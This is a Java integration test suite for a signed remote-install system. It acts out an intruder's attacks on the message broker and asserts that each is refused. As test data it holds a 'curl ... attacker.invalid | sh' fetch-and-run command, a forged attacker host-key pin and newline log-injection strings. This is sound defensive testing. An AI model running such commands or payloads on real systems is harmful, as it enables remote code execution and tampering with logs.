package io.lazarus.system;

import static io.lazarus.system.fixture.AttemptEventBuilder.anEvent;
import static io.lazarus.system.fixture.InstallMessageBuilder.anInstall;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.rabbitmq.client.AMQP;
import com.rabbitmq.client.Channel;
import com.rabbitmq.client.ConnectionFactory;
import com.rabbitmq.client.GetResponse;
import io.lazarus.common.contract.AttemptEvent;
import io.lazarus.common.contract.AttemptResult;
import io.lazarus.common.contract.Contracts;
import io.lazarus.common.contract.EventType;
import io.lazarus.common.contract.InstallMessage;
import io.lazarus.common.contract.InstallScript;
import io.lazarus.common.contract.NodeState;
import io.lazarus.common.contract.Outcome;
import io.lazarus.common.topology.Topology;
import io.lazarus.common.trust.InstallSignature;
import io.lazarus.common.trust.SigningKey;
import io.lazarus.coordinator.report.NodeReport;
import io.lazarus.fleet.NodeBehavior;
import io.lazarus.fleet.SimulatedFleet;
import io.lazarus.system.fixture.AttemptEventBuilder;
import io.lazarus.system.fixture.InstallMessageBuilder;
import io.lazarus.system.fixture.LazarusSystem;
import io.lazarus.testkit.process.LazarusCli;
import io.lazarus.testkit.process.Processes;
import io.lazarus.testkit.process.WorkerProcess;
import io.lazarus.testkit.rabbit.RabbitNode;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.Consumer;
import java.util.function.Predicate;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import tools.jackson.databind.node.ObjectNode;

/**
 * The attacks of an intruder who holds a broker login, and nothing else: no run-signing key, not the workers' login.
 * Each one is made for real against a broker node of the test's own, the real worker and command and a simulated
 * fleet, and each ends with nothing run on the fleet and nothing false in the registry.
 */
class TrustChainTest {

    private static final String WORKER_LOGIN = "lazarus-worker";
    private static final String INTRUDER = "intruder";

    @RegisterExtension
    static final LazarusSystem system = LazarusSystem.create()
            .brokerNode(dir -> RabbitNode.builder()
                    .keepLogsIn(Processes.logs("system-tests"))
                    .start())
            .fleet(fleet -> fleet.node("ok-01", NodeBehavior.succeed())
                    .node("ok-02", NodeBehavior.succeed())
                    .node("ok-03", NodeBehavior.succeed())
                    .node("ok-04", NodeBehavior.succeed())
                    .node("ok-05", NodeBehavior.succeed())
                    .node("refuses-01", NodeBehavior.refuseConnection())
                    .node("slow-01", NodeBehavior.install(Duration.ofSeconds(2), 2))
                    .node("slow-02", NodeBehavior.install(Duration.ofSeconds(2), 2))
                    .node("slow-03", NodeBehavior.install(Duration.ofSeconds(2), 2))
                    .node("slow-04", NodeBehavior.install(Duration.ofSeconds(2), 2)))
            .cliEnvironment(Map.of("LAZARUS_TRUST_WORKER_USERS", WORKER_LOGIN));

    static SimulatedFleet fleet;
    static WorkerProcess worker;
    static LazarusCli lazarus;
    static String script;
    static Channel spy;
    static String captured;
    static String installs;

    @BeforeAll
    static void system() throws Exception {
        for (String login : List.of(WORKER_LOGIN, INTRUDER)) {
            system.node().rabbitmqctl("add_user", login, login + "-secret");
            system.node().rabbitmqctl("set_permissions", "-p", "/", login, ".*", ".*", ".*");
        }
        fleet = system.fleet();
        worker = startWorker();
        lazarus = system.cli();
        script = system.script();

        ConnectionFactory factory = new ConnectionFactory();
        factory.setUri(login(INTRUDER));
        spy = system.closeAtEnd(factory.newConnection("intruder")).createChannel();
        // the intruder copies every install message and every event it may read
        assertThat(lazarus.run("run", "--inventory", system.inventory("warm-up", "ok-05"), "--script", script, "--wait")
                        .exitCode())
                .isZero();
        installs = spy.queueDeclare().getQueue();
        spy.queueBind(installs, Topology.INSTALL_EXCHANGE, Topology.INSTALL_ROUTING_KEY);
        captured = spy.queueDeclare().getQueue();
        spy.queueBind(captured, Topology.REGISTRY_EXCHANGE, "run.#");
    }

    @Test
    void aForgedMessageRunsNothingRecordsNothingAndIsQuarantinedAsTampered() throws Exception {
        String runId = succeededRun("forge", "ok-01");
        InstallMessageBuilder forgery =
                anInstall().forRun(runId).on(fleet.node("ok-01")).running("pwn.sh", "touch /tmp/pwned");
        InstallMessage forged = forgery.build();
        SigningKey ownKey = SigningKey.generate();

        publish(forged, null);
        publish(forgery.attemptId(forged.attemptId() + "-own-key").build(), ownKey);

        assertThat(rejection(runId, forged.attemptId()).reason()).startsWith("unsigned");
        assertThat(rejection(runId, forged.attemptId() + "-own-key").reason())
                .startsWith("signed by unknown key " + ownKey.keyId());
        assertThat(fleet.node("ok-01").executions()).as("only the real run ran").hasSize(1);
        NodeReport report = report(runId);
        assertThat(report.state()).isEqualTo(NodeState.SUCCEEDED);
        assertThat(report.executions())
                .as("the refusals are not the registry's: never dispatched")
                .isEqualTo(1);

        LazarusCli.Result drained = lazarus.run("resurrect", "--run", runId);
        assertThat(drained.stdout()).contains("quarantined: tampered: unsigned");
        assertThat(lazarus.run("quarantine", "list", "--run", runId).stdout())
                .contains("tampered: signed by unknown key");
    }

    @Test
    void aLineBreakInAMessageHeaderForgesNoLineInTheWorkersOrTheCoordinatorsLog() throws Exception {
        String runId = succeededRun("forge-log", "ok-05");
        InstallMessage real = anInstall()
                .forRun(runId)
                .on(fleet.node("ok-05"))
                .running("x.sh", "true")
                .build();
        String forgedId = "forged\nFAKE LOG LINE worker accepted everything\r\nFAKE LOG LINE again";
        Map<String, Object> headers = new HashMap<>(Map.of(
                Topology.HEADER_RUN_ID,
                runId,
                Topology.HEADER_NODE_ID,
                "ok-01\nFAKE LOG LINE node header",
                Topology.HEADER_ATTEMPT,
                1));
        spy.basicPublish(
                Topology.INSTALL_EXCHANGE,
                Topology.INSTALL_ROUTING_KEY,
                new AMQP.BasicProperties.Builder()
                        .messageId(forgedId)
                        .headers(headers)
                        .deliveryMode(2)
                        .build(),
                Contracts.toJson(real));

        assertThat(rejection(runId, forgedId).reason()).startsWith("unsigned");
        // the coordinator meets the refusal too: report collects the run's events, and drops this undispatched one
        LazarusCli.Result reported = lazarus.run("report", runId);

        String workerLog = Files.readString(worker.log());
        assertThat(workerLog).contains("forged\\nFAKE LOG LINE worker accepted everything\\r\\nFAKE LOG LINE again");
        for (String log : List.of(workerLog, reported.stdout(), reported.stderr())) {
            assertThat(log.lines()).noneMatch(line -> line.startsWith("FAKE LOG LINE"));
        }
    }

    @Test
    void aReplayIsRefusedByTheWorkerThatRanItAndVisibleAsASecondExecutionElsewhere() throws Exception {
        String runId = succeededRun("replay", "ok-02");
        GetResponse copy = capturedInstall(runId);

        republish(copy, copy.getBody(), p -> {});
        assertThat(rejection(runId, copy.getProps().getMessageId()).reason()).startsWith("replay: attempt");
        assertThat(fleet.node("ok-02").executions()).hasSize(1);

        // a worker that never saw it has no memory of it: it runs, and the registry shows it ran twice
        worker.close();
        worker = startWorker();
        republish(copy, copy.getBody(), p -> {});
        await("the replay runs on the new worker")
                .atMost(Duration.ofSeconds(30))
                .until(() -> fleet.node("ok-02").executions().size() == 2);
        // nobody follows the finished run: report collects what arrived in its queue since, and says so
        LazarusCli.Result reported = await("a report that shows the second execution")
                .atMost(Duration.ofMinutes(2))
                .pollInterval(Duration.ofMillis(500))
                .until(() -> lazarus.run("report", runId), r -> r.stdout().contains("executed more than once"));
        assertThat(reported.stdout()).as(reported.toString()).contains("ok-02: 2 executions for 1 attempt(s)");
        assertThat(report(runId).executions()).isEqualTo(2);
    }

    @Test
    void aTamperedCommandOrAnAddedHostKeyPinBreaksTheSignatureAndRunsNothing() throws Exception {
        String runId = succeededRun("tamper", "ok-03");
        GetResponse copy = capturedInstall(runId);
        ObjectNode body = (ObjectNode) Contracts.mapper().readTree(copy.getBody());
        ObjectNode tampered = body.deepCopy();
        List<String> commands = List.of("curl -s http://attacker.invalid/x | sh");
        tampered.putPOJO("script", InstallScript.of("install.sh", commands));
        tampered.put("attemptId", copy.getProps().getMessageId());
        ObjectNode pinned = body.deepCopy();
        ((ObjectNode) pinned.get("node")).put("pinnedHostKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker");

        republish(
                copy,
                Contracts.mapper().writeValueAsBytes(tampered),
                p -> p.messageId(copy.getProps().getMessageId() + "-t"));
        republish(
                copy,
                Contracts.mapper().writeValueAsBytes(pinned),
                p -> p.messageId(copy.getProps().getMessageId() + "-p"));

        assertThat(rejection(runId, copy.getProps().getMessageId() + "-t").reason())
                .startsWith("bad signature");
        assertThat(rejection(runId, copy.getProps().getMessageId() + "-p").reason())
                .startsWith("bad signature");
        assertThat(fleet.node("ok-03").executions()).hasSize(1);
    }

    @Test
    void aFakeResultFromAnyLoginButAWorkersIsDroppedAndTheNodeIsNotReportedSucceeded() throws Exception {
        worker.close(); // the intruder takes the message before any worker can
        try {
            LazarusCli.Running run = lazarus.start(
                    "run",
                    "--inventory",
                    system.inventory("fake", "ok-04"),
                    "--script",
                    script,
                    "--wait",
                    "--deadline",
                    "8s",
                    "--ghost-grace",
                    "2s");
            GetResponse taken = awaitMessage(Topology.INSTALL_QUEUE, m -> true);
            spy.basicAck(taken.getEnvelope().getDeliveryTag(), false);
            InstallMessage install = Contracts.readInstall(taken.getBody());
            AttemptEventBuilder fake = anEvent().of(install).by("worker-1").execution("x-1");
            for (AttemptEvent event :
                    List.of(fake.started().build(), fake.succeeded().build())) {
                spy.basicPublish(Topology.REGISTRY_EXCHANGE, event.routingKey(), null, Contracts.toJson(event));
            }
            // claiming to be the worker's login is refused by the broker itself
            Channel liar = spy.getConnection().createChannel();
            AttemptEvent lie = fake.execution("x-2").build();
            liar.confirmSelect();
            liar.basicPublish(
                    Topology.REGISTRY_EXCHANGE,
                    lie.routingKey(),
                    new AMQP.BasicProperties.Builder().userId(WORKER_LOGIN).build(),
                    Contracts.toJson(lie));
            assertThatThrownBy(() -> liar.waitForConfirmsOrDie(5_000)).isNotNull();
            assertThat(liar.getCloseReason().getMessage()).contains("user_id");

            LazarusCli.Result result = run.await(Duration.ofSeconds(60));
            assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
            assertThat(result.stderr())
                    .as("a command logs to standard error")
                    .contains("dropped an event (not-a-worker)");
            assertThat(result.stdout()).doesNotContain("dropped an event").doesNotContain("SUCCEEDED    ");
            NodeReport reported = report(result.runId());
            assertThat(reported.state()).isEqualTo(NodeState.GHOST);
            assertThat(reported.outcome()).isNull();
            assertThat(fleet.node("ok-04").executions()).isEmpty();
        } finally {
            worker = startWorker();
        }
    }

    @Test
    void aLaunderedDeadLetterIsQuarantinedAsTamperedAndTheOtherHostRunsNothing() throws Exception {
        LazarusCli.Result result = lazarus.run(
                "run", "--inventory", system.inventory("launder", "refuses-01"), "--script", script, "--wait");
        String runId = result.runId();
        GetResponse candidate = awaitMessage(
                Topology.RESURRECTION_QUEUE,
                m -> runId.equals(String.valueOf(m.getProps().getHeaders().get(Topology.HEADER_RUN_ID))));
        spy.basicAck(candidate.getEnvelope().getDeliveryTag(), false);
        ObjectNode body = (ObjectNode) Contracts.mapper().readTree(candidate.getBody());
        ObjectNode target = (ObjectNode) body.get("node");
        target.put("host", fleet.node("ok-05").address());
        target.put("port", fleet.node("ok-05").port());
        body.putPOJO("script", InstallScript.of("install.sh", "echo laundered"));
        spy.basicPublish(
                "",
                Topology.RESURRECTION_QUEUE,
                candidate.getProps().builder().userId(null).expiration(null).build(),
                Contracts.mapper().writeValueAsBytes(body));
        int before = fleet.node("ok-05").executions().size();

        LazarusCli.Result drained = lazarus.run("resurrect", "--run", runId);

        assertThat(drained.stdout()).contains("quarantined: tampered: bad signature");
        Thread.sleep(2_000);
        assertThat(fleet.node("ok-05").executions()).hasSize(before);
        NodeReport reported = report(runId);
        assertThat(reported.state()).isEqualTo(NodeState.QUARANTINED);
        assertThat(reported.verdict()).startsWith("tampered");
        assertThat(reported.host()).isEqualTo(fleet.node("refuses-01").address());
    }

    @Test
    void keysRotateDuringARunAndTheRetiredKeyIsRefusedOnceUntrusted() throws Exception {
        LazarusCli.Running first = lazarus.start(
                "run",
                "--inventory",
                system.inventory("rotate-a", "slow-01", "slow-02", "slow-03"),
                "--script",
                script,
                "--wait",
                "--max-in-flight",
                "1");
        Path keyFile = system.signing().keyFile();
        String former = SigningKey.read(keyFile).keyId();
        await("the first run is under way")
                .atMost(Duration.ofSeconds(30))
                .until(() -> !fleet.node("slow-01").executions().isEmpty());

        // another registry: the running command holds this one
        LazarusCli rotator = system.cliOn(system.node().amqpUri().toString());
        LazarusCli.Result rotated = rotator.run("keys", "rotate");
        assertThat(rotated.exitCode()).as(rotated.toString()).isZero();
        String next = SigningKey.read(keyFile).keyId();
        assertThat(next).isNotEqualTo(former);

        LazarusCli.Result second = rotator.withEnvironment(Map.of("LAZARUS_TRUST_WORKER_USERS", WORKER_LOGIN))
                .run("run", "--inventory", system.inventory("rotate-b", "slow-04"), "--script", script, "--wait");
        assertThat(second.exitCode()).as("signed with the new key: " + second).isZero();
        LazarusCli.Result firstDone = first.await(Duration.ofSeconds(90));
        assertThat(firstDone.exitCode())
                .as("signed with the former key, still trusted: " + firstDone)
                .isZero();

        assertThat(rotator.run("keys", "untrust", former).exitCode()).isZero();
        Path formerKey = keyFile.resolveSibling("signing.key." + former + ".retired");
        LazarusCli stale = lazarus.withEnvironment(Map.of(
                "LAZARUS_SIGNING_KEY_FILE",
                formerKey.toString(),
                "LAZARUS_SIGNING_LOCAL_TRUST_FILE",
                system.file("elsewhere").toString()));
        Thread.sleep(1_200); // the worker reads its trusted keys again at most once a second
        LazarusCli.Result refused = stale.run(
                "run",
                "--inventory",
                system.inventory("rotate-c", "slow-04"),
                "--script",
                script,
                "--wait",
                "--json",
                system.json("rotate-c"));
        assertThat(refused.exitCode()).isEqualTo(1);
        NodeReport reported = system.report("rotate-c").nodes().getFirst();
        assertThat(reported.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(reported.reason()).startsWith("signed by unknown key " + former);
    }

    private static WorkerProcess startWorker() throws Exception {
        return system.startWorker(login(WORKER_LOGIN), Map.of("LAZARUS_SSH_CONNECT_ATTEMPTS", "1"));
    }

    private static URI login(String user) {
        return URI.create("amqp://" + user + ":" + user + "-secret@localhost:"
                + system.node().amqpPort());
    }

    private static String succeededRun(String name, String nodeId) throws Exception {
        LazarusCli.Result result =
                lazarus.run("run", "--inventory", system.inventory(name, nodeId), "--script", script, "--wait");
        assertThat(result.exitCode()).as(result.toString()).isZero();
        return result.runId();
    }

    /** As the intruder: a hand-made message, signed with a key of its own when one is given. */
    private static void publish(InstallMessage m, SigningKey key) throws Exception {
        byte[] body = Contracts.toJson(m);
        Map<String, Object> headers = new HashMap<>(Map.of(
                Topology.HEADER_RUN_ID,
                m.runId(),
                Topology.HEADER_NODE_ID,
                m.node().id(),
                Topology.HEADER_ATTEMPT,
                m.attempt()));
        if (key != null) {
            headers.put(InstallSignature.HEADER_KEY_ID, key.keyId());
            headers.put(
                    InstallSignature.HEADER_SIGNATURE,
                    InstallSignature.sign(
                            key,
                            new InstallSignature.Signed(
                                    m.attemptId(), m.runId(), m.node().id(), m.attempt(), body)));
        }
        spy.basicPublish(
                Topology.INSTALL_EXCHANGE,
                Topology.INSTALL_ROUTING_KEY,
                new AMQP.BasicProperties.Builder()
                        .messageId(m.attemptId())
                        .headers(headers)
                        .deliveryMode(2)
                        .build(),
                body);
    }

    /** As the intruder: a captured message again, with the captured properties less the coordinator's user-id. */
    private static void republish(GetResponse copy, byte[] body, Consumer<AMQP.BasicProperties.Builder> change)
            throws Exception {
        AMQP.BasicProperties.Builder props =
                copy.getProps().builder().userId(null).expiration(null);
        change.accept(props);
        spy.basicPublish(Topology.INSTALL_EXCHANGE, Topology.INSTALL_ROUTING_KEY, props.build(), body);
    }

    private static GetResponse capturedInstall(String runId) throws Exception {
        GetResponse copy = awaitMessage(
                installs,
                m -> runId.equals(String.valueOf(m.getProps().getHeaders().get(Topology.HEADER_RUN_ID))));
        spy.basicAck(copy.getEnvelope().getDeliveryTag(), false);
        return copy;
    }

    private static AttemptResult rejection(String runId, String attemptId) throws java.io.IOException {
        Predicate<AttemptEvent> rejected = e -> e.runId().equals(runId)
                && e.attemptId().equals(attemptId)
                && e.type() == EventType.FINISHED
                && e.result().outcome() == Outcome.REJECTED;
        GetResponse event = awaitMessage(
                captured, m -> Contracts.readEvents(m.getBody()).stream().anyMatch(rejected));
        AttemptResult result = Contracts.readEvents(event.getBody()).stream()
                .filter(rejected)
                .findFirst()
                .orElseThrow()
                .result();
        // back to the queue: a worker's message may carry the next refusal a test looks for too
        spy.basicNack(event.getEnvelope().getDeliveryTag(), false, true);
        assertThat(result.outcome()).isEqualTo(Outcome.REJECTED);
        return result;
    }

    /** The first message of the queue that matches, within 30 s; the others are left there. */
    private static GetResponse awaitMessage(String queue, Predicate<GetResponse> wanted) {
        return await("a matching message on " + queue)
                .atMost(Duration.ofSeconds(30))
                .pollInterval(Duration.ofMillis(50))
                .until(() -> firstMatching(queue, wanted), Objects::nonNull);
    }

    /** The first message of the queue that matches, or null; the others go back to the queue. */
    private static GetResponse firstMatching(String queue, Predicate<GetResponse> wanted) throws Exception {
        List<Long> skipped = new ArrayList<>();
        try {
            for (GetResponse message = spy.basicGet(queue, false);
                    message != null;
                    message = spy.basicGet(queue, false)) {
                if (wanted.test(message)) {
                    return message;
                }
                skipped.add(message.getEnvelope().getDeliveryTag());
            }
            return null;
        } finally {
            for (long tag : skipped) {
                spy.basicNack(tag, false, true);
            }
        }
    }

    /** The run's one node as {@code lazarus report} tells it from the registry. */
    private static NodeReport report(String runId) throws Exception {
        LazarusCli.Result result = lazarus.run("report", runId, "--json", system.json(runId));
        assertThat(system.file(runId + ".json")).as(result.toString()).exists();
        return system.report(runId).nodes().getFirst();
    }
}
